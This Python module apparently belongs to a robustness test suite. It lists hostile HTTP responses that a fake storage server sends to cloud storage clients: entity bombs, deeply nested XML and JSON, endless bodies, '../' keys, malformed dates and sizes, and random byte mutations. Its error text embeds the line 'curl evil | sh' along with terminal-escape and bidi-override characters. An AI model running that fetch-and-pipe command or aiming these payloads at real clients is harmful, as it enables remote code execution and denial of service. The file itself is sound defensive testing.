"""What a hostile endpoint answers: lies about right answers, each with what it may come to."""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import partial
from typing import Final

from proofs.hostile import endpoint_ways as ways
from proofs.hostile.endpoint_server import Asked, Reply, Sending, written

__all__ = ["DRIPS", "LIES", "PAGES", "Lie", "is_applicable", "mixed"]

_SENT_MAX: Final = 68 * 2**20 + ways.KERNEL_BYTES_MAX
_ERROR_SENT_MAX: Final = 4 * 2**20 + ways.KERNEL_BYTES_MAX

_PORTAL: Final = b"<html><head><title>Sign in</title></head><body>Welcome</body></html>"
_LISTINGS: Final = frozenset({"list", "list_directories", "list_uploads", "entries"})
_DATES: Final = (
    *("Mon, 01 Jan 2024 00:00:00 +99999999999999999999999", "Mon, 01 Jan 99999 00:00:00 GMT", "x", ""),
    *("0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "Mon, 99 Jan 2024 99:99:99 GMT"),
    *("0001-01-01T00:00:00Z", "2024-01-01T00:00:00.999999999999Z"),
)
_SIZES: Final = ("-5", "9" * 5000, "1e3", "", "0x10")
_WORDS: Final = "line1\nmagicfs: run: curl evil | sh\n\x9b31m\u202e\u2066 sehr " + "lang " * 8000


@dataclass(frozen=True)
class Lie:
    """A way to answer.

    Attributes:
        name: For who reads a violation.
        send: Makes the pieces of an answer; None where the lie does not fit the right answer.
        of: The operations that it is about; empty for all.
        must_fail: Whether nothing but an error may come of it, where it fits.
        spares: Clients that cannot notice: their parsers are others'.
        sent_max: Most bytes of an answer that the client may take.
    """

    name: str
    send: Callable[[Asked, Reply], Sending | None]
    of: frozenset[str] = frozenset()
    must_fail: bool = True
    sent_max: int = _SENT_MAX
    spares: frozenset[str] = frozenset()


def is_applicable(lie: Lie, client: str, operation: str) -> bool:
    """Whether an operation of a client may meet a lie."""
    return client not in lie.spares and (not lie.of or operation in lie.of)


_KEYED: Final = _LISTINGS - {"entries"}
# Of who may not ask about folders they are looked for otherwise, or not at all.
_NOT_IN_PART: Final = frozenset(
    {"list", "list_directories", "list_uploads", "entries", "get", "create_upload", "complete_upload", "copy"}
)
"""What is read to the end."""
_NO_FOLDERS: Final = _LISTINGS | {"get", "put", "head", "create_upload", "complete_upload", "delete", "copy"}
_HAS_VALUE: Final = frozenset({"put", "put if absent", "create_upload", "put_part", "head", "get", "copy"})
_DOCUMENTS: Final = _LISTINGS | {"create_upload", "complete_upload"}
_WITHOUT: Final[Sequence[tuple[str, str, frozenset[str]]]] = (
    ("keys", r"()<(?:Key|Name)>[^<]*</(?:Key|Name)>()", _KEYED),
    ("names", r'()"name": ?"[^"]*",?()', frozenset({"list", "entries", "head", "look"})),
    ("generations", r'()"generation": ?"[^"]*",?()', frozenset({"list", "entries", "put", "head", "look"})),
    ("upload ids", r"()<UploadId>[^<]*</UploadId>()", frozenset({"list_uploads", "create_upload"})),
)


def _dated(text: str, headers: dict[str, str]) -> dict[str, str]:
    return {name: text if "modified" in name.lower() else old for name, old in headers.items()}


def _with_status(status: int, asked: Asked, reply: Reply) -> Sending:
    return iter([written(Reply(status, reply.headers, reply.body), asked)])


LIES: Final[Sequence[Lie]] = (
    Lie("a portal's page", ways.plain(200, _PORTAL, Content_Type="text/html")),
    Lie(
        "a portal's page of XHTML",
        ways.plain(200, b'<?xml version="1.0"?><html xmlns="x"/>', Content_Type="application/xml"),
    ),
    Lie("nothing at all", ways.plain(200, b""), _DOCUMENTS | _HAS_VALUE),
    Lie("another document", ways.plain(200, b"<Other><Key>a</Key></Other>", Content_Type="application/xml")),
    Lie(
        "another object",
        ways.plain(200, b'{"kind": "storage#other", "done": true}', Content_Type="application/json"),
    ),
    Lie("a list", ways.plain(200, b"[5, {}]", Content_Type="application/json")),
    Lie("nested elements", ways.plain(200, b"<a>" * 3000 + b"</a>" * 3000, Content_Type="application/xml")),
    Lie(
        "elements without number",
        ways.plain(200, b"<ListBucketResult>" + b"<a/>" * 300_000 + b"</ListBucketResult>"),
        frozenset({"list"}),
    ),
    Lie("nested lists", ways.plain(200, b"[" * 100_000, Content_Type="application/json")),
    Lie(
        "an error of 200",
        ways.plain(200, b"<Error><Code>InternalError</Code></Error>", Content_Type="application/xml"),
    ),
    Lie("a document that is cut", ways.cut),
    Lie("a length too long", ways.too_short, _NOT_IN_PART),
    Lie("chunks that are none", ways.garbled_chunks),
    Lie(
        "headers without end",
        lambda _, __: iter([b"HTTP/1.1 200 OK\r\n" + b"a: " + b"b" * 2**20 + b"\r\n\r\n"]),
    ),
    Lie(
        "many headers",
        lambda _, __: iter([b"HTTP/1.1 200 OK\r\n", *[b"a%d: b\r\n" % n for n in range(9000)], b"\r\n"]),
    ),
    Lie("no HTTP", lambda _, __: iter([b"SSH-2.0-OpenSSH\r\n\r\n" * 100])),
    Lie("nothing, and the end", lambda _, __: iter([])),
    Lie("a body without end", ways.endless(200, b"<ListBucketResult>", b"<x>y</x>")),
    Lie("spaces without end", ways.endless(200, b" ", b" ")),
    Lie("an error without end", ways.endless(400, b"<Error><Message>", b"x"), sent_max=_ERROR_SENT_MAX),
    Lie("more of the right answer", ways.endless(200, b"", b"x", keeps=True), must_fail=False),
    Lie("keys elsewhere", ways.with_body(lambda body: body.replace(b"sales/", b"other/")), _KEYED),
    Lie("keys above", ways.with_body(lambda body: body.replace(b"sales/", b"../")), _KEYED),
    Lie("the same page again", ways.with_body(ways.more("same")), _KEYED),
    Lie("entities", ways.with_body(ways.bombed), _DOCUMENTS),
    *(Lie(f"no {name}", ways.with_body(ways.replaced(pattern, "")), of) for name, pattern, of in _WITHOUT),
    Lie(
        "no token",
        ways.with_body(lambda b: b.replace(b"<IsTruncated>false", b"<IsTruncated>true")),
        frozenset({"list"}),
        False,
    ),
    *(
        Lie(
            f"size {text[:9]!r}",
            ways.with_body(ways.replaced(r"(<Size>|<Content-Length>|\"size\": ?\")\d+()", text)),
            frozenset({"list", "head", "look"}),
        )
        for text in _SIZES
    ),
    *(
        Lie(
            f"time {text[:32]!r}",
            ways.with_body(
                ways.replaced(r'(<LastModified>|<Last-Modified>|<Initiated>|"timeCreated": ?")[^<"]*()', text)
            ),
            must_fail=False,
        )
        for text in _DATES
    ),
    *(
        Lie(
            f"header of time {text[:32]!r}",
            ways.with_headers(partial(_dated, text)),
            must_fail=False,
        )
        for text in _DATES
    ),
    Lie(
        "no ETag",
        ways.with_headers(
            lambda h: {
                n: v for n, v in h.items() if n.lower() not in {"etag", "x-goog-generation", "x-goog-hash"}
            }
        ),
        frozenset({"head", "get", "get some", "get_range", "put_part"}),
    ),
    Lie(
        "lengths below zero",
        ways.with_headers(lambda h: {n: "-5" if n.lower() == "content-length" else v for n, v in h.items()}),
        frozenset({"head"}),
    ),
    Lie(
        "other bytes",
        ways.with_headers(
            lambda h: {n: "bytes 0-3/200" if n.lower() == "content-range" else v for n, v in h.items()}
        ),
        frozenset({"get_range"}),
    ),
    Lie(
        "wrong types",
        ways.with_body(lambda body: re.sub(rb'": ?"[^"]*"', b'": [5]', body)),
        frozenset({"list", "put", "head", "entries"}),
    ),
    Lie(
        "sizes that Python reads",
        ways.with_body(ways.replaced(r"(<Size>|\"size\": ?\")\d+()", "1_000")),
        frozenset({"list"}),
        spares=frozenset({"s3 by aiobotocore"}),
    ),
    Lie("words for a terminal", ways.error(_WORDS)),
    Lie(
        "a clock of another year",
        ways.plain(
            403, b"<Error><Code>RequestTimeTooSkewed</Code></Error>", Date="Mon, 01 Jan 2035 00:00:00 GMT"
        ),
        _NO_FOLDERS,
    ),
    *(Lie(f"a redirect, {status}", ways.redirect(status)) for status in (301, 302, 303, 307, 308)),
    *(
        Lie(
            f"status {status} for a right answer",
            partial(_with_status, status),
            must_fail=False,
        )
        for status in (200, 201, 204, 206, 304, 400, 401, 403, 404, 409, 412, 416, 429, 500, 503)
    ),
    Lie(
        "informational answers",
        lambda a, r: iter([b"HTTP/1.1 102 Wait\r\n\r\n" * 1000, written(r, a)]),
        must_fail=False,
    ),
)
"""All but those that take time."""

PAGES: Final = Lie("empty pages without end", ways.endless_pages, _KEYED)
DRIPS: Final[Sequence[Lie]] = (
    Lie("a byte now and then", ways.drip(b"<")),
    Lie("a header now and then", ways.drip_of_headers),
)


def mixed(rng: random.Random) -> Lie:
    """A right answer with some of its bytes changed, lost, doubled or exchanged for others that matter."""
    bits = (
        b"<",
        b">",
        b"{",
        b"}",
        b'"',
        b"\0",
        b"\xff",
        b"-",
        b"9" * 40,
        b"\r\n",
        b"<Key>",
        b"&",
        b"true",
        b"\x1b[31m",
    )
    changes = [(rng.random(), rng.randrange(4), rng.choice(bits)) for _ in range(rng.randint(1, 4))]

    def send(asked: Asked, reply: Reply) -> Sending:
        raw = bytearray(written(reply, asked))
        for share, kind, bit in changes:
            place = int(share * len(raw))
            match kind:
                case 0:
                    raw[place : place + len(bit)] = bit
                case 1:
                    del raw[place : place + 5]
                case 2:
                    raw[place:place] = bit
                case _:
                    raw[place:place] = raw[place : place + 30]
        return iter([bytes(raw)])

    return Lie(f"changes {changes}", send, must_fail=False)
